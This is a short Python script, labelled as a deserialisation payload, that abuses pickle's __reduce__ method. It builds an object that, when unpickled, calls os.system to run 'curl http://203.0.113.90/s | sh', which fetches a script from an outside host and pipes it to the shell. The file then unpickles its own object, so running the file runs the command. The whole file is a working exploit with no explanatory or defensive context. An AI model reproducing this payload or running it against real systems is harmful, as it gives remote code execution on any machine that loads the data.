# class: deserialisation payload; style: exploit class
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("curl http://203.0.113.90/s | sh",)


blob = pickle.dumps(Payload())
pickle.loads(blob)
